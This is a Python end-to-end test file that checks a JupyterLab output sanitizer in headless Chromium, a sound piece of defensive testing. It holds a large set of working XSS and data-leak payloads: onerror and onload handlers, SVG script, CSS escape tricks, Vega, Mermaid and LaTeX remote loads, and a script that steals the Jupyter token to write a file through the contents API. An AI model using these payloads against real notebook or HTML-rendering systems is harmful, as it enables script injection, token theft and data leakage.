"""Hostile outputs in a real browser: JupyterLab in headless Chromium runs a notebook whose
cells (in the sandbox) emit every class of attack from issue 10, while a loopback HTTP
listener records every request. Without a click: zero requests reach the listener, no
script runs (no dialog, no DOM marker, no file written through the server's contents
API), and the normal outputs (pandas table, Styler, matplotlib PNG and SVG, LaTeX,
markdown) still render. README's claim that the browser cannot be used to send data out
rests on this test.
"""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from e2e.lab import chromium, free_port, jupyterlab, open_and_run_all

pytestmark = [pytest.mark.docker, pytest.mark.slow]

STYLER = (Path(__file__).resolve().parents[1] / "unit" / "outputs" / "styler.html").read_text()


class _Recorder(http.server.BaseHTTPRequestHandler):
    seen: list[str]

    def _record(self) -> None:
        self.seen.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_GET = do_POST = do_PUT = do_OPTIONS = do_HEAD = _record

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture()
def listener() -> Iterator[tuple[str, list[str]]]:
    seen: list[str] = []
    handler = type("Handler", (_Recorder,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


def _js(base: str) -> str:
    """What an injected script would do: mark the page, alert, call out, write a file."""
    return ("window.top.__pwned=1;document.body.setAttribute('data-pwned','1');alert(1);"
            f"fetch('{base}/script-ran');const t=JSON.parse(document.getElementById("
            "'jupyter-config-data').textContent).token;fetch('/api/contents/pwned.txt',"
            "{method:'PUT',headers:{Authorization:'token '+t,'Content-Type':"
            "'application/json'},body:JSON.stringify({type:'file',format:'text',"
            "content:'pwned'})})")


def hostile_cells(base: str) -> list[str]:
    js = _js(base).replace('"', "&quot;")
    u = base
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
           f' width="40" height="40"><image href="{u}/svg-image.png" width="10" height="10"/>'
           f'<image xlink:href="{u}/svg-xlink.png"/><use href="{u}/use.svg#a"/>'
           f'<filter id="f"><feImage href="{u}/feimage.png"/></filter>'
           f'<rect width="10" height="10" fill="url({u}/paint.svg#p)" filter="url(#f)"/>'
           f'<style>rect {{ fill: u\\rl({u}/svg-style.png) }}</style>'
           f'<script>{_js(base)}</script><circle r="5" onload="{js}"/></svg>')
    bundles: list[tuple[dict[str, Any], dict[str, Any]]] = [
        ({"text/markdown": [f'<img src="x" onerror="{js}">', " **list-valued**"]}, {}),
        ({"text/html": [f'<img src=x onerror="{js}">', f"<svg onload=\"{js}\"></svg>"]}, {}),
        ({"text/markdown": f"![remote]({u}/md-image.png) ![ref][r]\n\n[r]: {u}/md-ref.png\n"
                           f"\n<img src='{u}/md-html.png'> <{u}/autolink>"}, {}),
        ({"application/vnd.vegalite.v5+json": {
            "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
            "data": {"url": f"{u}/vega-lite-data.csv"}, "mark": "bar"},
          "text/plain": "vega-lite with data.url"}, {}),
        ({"application/vnd.vegalite.v5+json": {
            "data": {"values": [{"img": f"{u}/vega-lite-image.png"}]}, "mark": "image",
            "encoding": {"url": {"field": "img"}}}, "text/plain": "vega-lite image mark"}, {}),
        ({"application/vnd.vega.v5+json": {
            "$schema": "https://vega.github.io/schema/vega/v5.json", "width": 50,
            "height": 50, "data": [{"name": "t", "url": f"{u}/vega-data.json"}],
            "marks": [{"type": "image", "encode": {"enter": {
                "url": {"value": f"{u}/vega-image.png"}}}}]}, "text/plain": "vega"}, {}),
        ({"application/vnd.vegalite.v5+json": {
            "data": {"values": [{"a": 1}]}, "mark": "point",
            "usermeta": {"embedOptions": {"loader": {"baseURL": f"{u}/"}}}},
          "text/plain": "vega-lite usermeta"},
         {"application/vnd.vegalite.v5+json": {"embed_options": {
             "loader": {"baseURL": f"{u}/"}, "actions": True}}}),
        ({"text/vnd.mermaid": f"graph TD\n  A[\"<img src='{u}/mermaid.png'>\"] --> B\n"
                              f"  B --> C[\"<b onmouseover=x>b</b>\"]",
          "text/plain": "mermaid"}, {}),
        ({"text/vnd.mermaid": "%%{init: {'securityLevel': 'loose'}}%%\ngraph TD\n  A-->B\n"
                              f"  click A \"{u}/mermaid-click\"", "text/plain": "mermaid2"}, {}),
        ({"text/html": f"<div style='background-image: \\75 rl({u}/css-escape-1.png);"
                       f"width:20px;height:20px'>a</div>"
                       f"<div style='background-image: u\\rl({u}/css-escape-2.png);"
                       f"width:20px;height:20px'>b</div>"
                       f"<style>@\\69mport url({u}/css-import.css); @import '{u}/imp2.css';"
                       f" .x {{ background: \\000075rl({u}/css-escape-3.png) }}"
                       f" @font-face {{ font-family: f; src: url({u}/font.woff) }}"
                       f" .y {{ font-family: f }}</style><p class='x y'>c</p>"
                       f"<div style='list-style-image: url({u}/list.png); cursor: "
                       f"url({u}/cursor.png), auto'>d</div>"
                       f"<div style='background: image-set(\"{u}/image-set.png\" 1x)'>e</div>"},
         {}),
        ({"text/html": f"<a href='{u}/overlay-click' style='position: fixed; inset: 0; "
                       "z-index: 99999; display: block; background: rgba(255,0,0,0.01)'>"
                       "overlay</a><style>body { display: none !important }</style>"}, {}),
        ({"image/svg+xml": svg, "text/plain": "svg"}, {}),
        ({"text/html": svg}, {}),
        ({"text/html": f"<img srcset='{u}/srcset-1.png 1x, {u}/srcset-2.png 2x'>"
                       f"<picture><source srcset='{u}/picture.png'><img></picture>"
                       f"<video poster='{u}/poster.png'></video><audio src='{u}/a.mp3'"
                       f" autoplay></audio><input type=image src='{u}/input.png'>"
                       f"<table background='{u}/table-bg.png'><tr><td background='"
                       f"{u}/td-bg.png'>t</td></tr></table><link rel=stylesheet "
                       f"href='{u}/link.css'><link rel=prefetch href='{u}/prefetch'>"
                       f"<iframe src='{u}/iframe'></iframe><object data='{u}/object'>"
                       f"</object><embed src='{u}/embed'><meta http-equiv=refresh "
                       f"content='0;url={u}/refresh'><a ping='{u}/ping' href='https://"
                       f"example.invalid/'>ping</a><img src='//127.0.0.1:{u.rsplit(':', 1)[1]}"
                       f"/protocol-relative.png'><img src='relative.png'>"
                       f"<iframe srcdoc=\"<script>{js}</script>\"></iframe>"}, {}),
        ({"text/html": "<b>metadata tricks</b>", "image/png": "iVBORw0KGgo="},
         {"text/html": {"isolated": False, "onload": js},
          "image/png": {"width": '10" onerror="alert(1)'}, "x-frontend": {"url": u}}),
        ({"application/geo+json": {"type": "Point", "coordinates": [0, 0]},
          "application/x-unknown": "x", "application/vnd.jupyter.widget-view+json": {
              "model_id": "x", "version_major": 2, "version_minor": 0},
          "application/pdf": "JVBERi0xLjQ=", "text/plain": "unknown types"}, {}),
        ({"application/javascript": _js(base), "text/plain": "javascript"}, {}),
        ({"text/latex": f"$\\href{{{u}/tex-href}}{{x}} + \\style{{background-image: "
                        f"url({u}/tex-style.png)}}{{y}} + \\require{{{u}/tex.js}}$"}, {}),
        ({"text/html": f"<p>$\\style{{background: url({u}/html-tex.png)}}{{z}}$</p>"}, {}),
        ({"application/vnd.plotly.v1+json": {"data": [{"type": "scattergeo"}],
                                             "layout": {"images": [{"source": f"{u}/p.png"}]}},
          "text/plain": "plotly"}, {}),
    ]
    cells = ["from IPython.display import display, update_display\n"
             "import json\nBUNDLES = json.loads(" + repr(json.dumps(bundles)) + ")\n"
             "for data, md in BUNDLES:\n    display(data, metadata=md, raw=True)"]
    result = f'<img src="{u}/result.png" onerror="{js}">'
    cells.append(f"class Evil:\n    def _repr_html_(self):\n        return {result!r}\nEvil()")
    update = {"text/html": f'<img src="{u}/update.png" onerror="{js}">'}
    cells.append("h = display({'text/plain': 'benign'}, raw=True, display_id=True)\n"
                 f"h.update({update!r}, raw=True)")
    pager = {"text/html": f'<img src="{u}/pager.png" onerror="{js}">', "text/plain": "p"}
    cells.append(f"from IPython.core import page\npage.page({pager!r})")
    return cells


def error_cell(base: str) -> str:
    """Last: JupyterLab's Run All stops at the first error."""
    js = _js(base).replace('"', "&quot;")
    text = f'<img src="{base}/error.png" onerror="{js}">'
    return f"print({text!r})\nraise ValueError({text!r})"


NORMAL_CELLS = [
    "import pandas as pd\npd.DataFrame({'a': [1, 2], 'b': ['x', 'y']})",
    f"from IPython.display import HTML\nHTML({STYLER!r})",
    "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.figure(figsize=(2, 2))\n"
    "plt.plot([1, 2, 3], [1, 4, 9])\nplt.show()",
    "import io\nfig, ax = plt.subplots(figsize=(2, 2))\nax.plot([1, 2], [2, 1])\n"
    "buf = io.StringIO()\nfig.savefig(buf, format='svg')\nplt.close(fig)\n"
    "from IPython.display import SVG\nSVG(buf.getvalue())",
    "from IPython.display import Latex\nLatex(r'$\\frac{a}{b} + \\sqrt{x^2}$')",
    "from IPython.display import Markdown\nMarkdown('# Heading from markdown\\n\\n*em* and "
    "$e^{i\\\\pi}$\\n\\n| a | b |\\n|---|---|\\n| 1 | 2 |')",
]


def _notebook(path: Path, cells: list[str]) -> None:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "sandbox", "display_name": "Python (sandbox)",
                                 "language": "python"}
    nb.cells = [nbformat.v4.new_code_cell(c) for c in cells]
    nbformat.write(nb, str(path))


def _run_in_lab(tmp_path: Path, base: str, config: str = "") -> dict[str, Any]:
    """Run the hostile notebook in JupyterLab; what the page saw and did."""
    root = tmp_path / "root"
    root.mkdir()
    state = tmp_path / "state"
    (state / "home" / ".jupyter").mkdir(parents=True)
    (state / "home" / ".jupyter" / "sandbox_kernel_config.py").write_text(config)
    _notebook(root / "hostile.ipynb", hostile_cells(base) + NORMAL_CELLS + [error_cell(base)])
    seen: dict[str, Any] = {"dialogs": [], "requests": []}
    with jupyterlab(root, state) as (lab, token), chromium() as browser:
        page = browser.new_page(viewport={"width": 1280, "height": 1000})
        page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
        page.on("request", lambda r: seen["requests"].append(r.url)
                if r.url.startswith(base) else None)
        open_and_run_all(page, f"{lab}/lab/tree/hostile.ipynb?token={token}")
        try:
            page.wait_for_function(
                "() => [...document.querySelectorAll('.jp-OutputArea-output')]"
                ".some(e => e.textContent.includes('ValueError'))", timeout=240_000)
        finally:  # (a picture of the page, for a failure)
            page.screenshot(path=str(tmp_path / "hostile.png"), full_page=True)
        _scroll_everything_into_view(page)
        page.wait_for_timeout(5000)  # time for any lazy fetch or timer to fire
        seen["marker"] = page.evaluate("() => [window.__pwned, document.body.getAttribute("
                                       "'data-pwned'), document.title]")
        seen["rendered"] = _normal_outputs(page)
        seen["notices"] = page.evaluate(
            "() => [...document.querySelectorAll('.jp-OutputArea-output')]"
            ".map(e => e.textContent).filter(t => t.includes('[sandbox] removed')).length")
    seen["files"] = sorted(p.name for p in root.iterdir() if p.name != ".ipynb_checkpoints")
    return seen


def test_hostile_outputs_fetch_nothing_and_run_no_script(
        tmp_path: Path, listener: tuple[str, list[str]]) -> None:
    base, requests = listener
    seen = _run_in_lab(tmp_path, base)
    assert requests == [], f"requests reached the listener without a click: {requests}"
    assert seen["requests"] == []
    assert seen["dialogs"] == []
    assert seen["marker"][:2] == [None, None]
    assert seen["files"] == ["hostile.ipynb"]  # no pwned.txt through the contents API
    assert seen["rendered"] == {"dataframe": True, "styler": "rgb(2, 56, 88)", "png": True,
                                "svg": True, "mathjax": True, "markdown": True}
    assert seen["notices"] >= 15, f"only {seen['notices']} outputs said what was removed"


def test_the_same_notebook_without_the_policy_does_call_out(
        tmp_path: Path, listener: tuple[str, list[str]]) -> None:
    """The check above can fail: with the policy off, the listener hears the browser."""
    base, requests = listener
    seen = _run_in_lab(tmp_path, base, "c.Sandbox.sanitize_output = False\n"
                                       "c.Sandbox.allow_javascript = True\n")
    assert len(requests) >= 10, requests
    assert "GET /script-ran" in requests
    assert seen["dialogs"] and seen["marker"][:2] == [1, "1"]
    assert "pwned.txt" in seen["files"]


def _scroll_everything_into_view(page: Any) -> None:
    """Lazy renderers (JupyterLab's windowed notebook) render cells as they scroll in."""
    for _ in range(40):
        page.mouse.wheel(0, 600)
        page.wait_for_timeout(100)


def _normal_outputs(page: Any) -> dict[str, Any]:
    page.mouse.wheel(0, 100_000)
    page.wait_for_timeout(2000)
    return dict(page.evaluate("""() => {
        const outs = [...document.querySelectorAll('.jp-OutputArea-output')];
        const imgs = (prefix) => outs.flatMap(o => [...o.querySelectorAll('img')])
            .filter(i => i.src.startsWith(prefix) && i.complete && i.naturalWidth > 0);
        const styled = document.querySelector('#T_5a1b4_row1_col0');
        return {
            dataframe: outs.some(o => [...o.querySelectorAll('table.dataframe td')]
                .some(td => td.textContent === 'x')),
            styler: styled ? getComputedStyle(styled).backgroundColor : null,
            png: imgs('data:image/png').length > 0,
            svg: imgs('data:image/svg+xml').length > 0,
            mathjax: outs.some(o => o.querySelector('mjx-container') !== null),
            markdown: outs.some(o => [...o.querySelectorAll('h1')]
                .some(h => h.textContent.includes('Heading from markdown'))),
        };
    }"""))
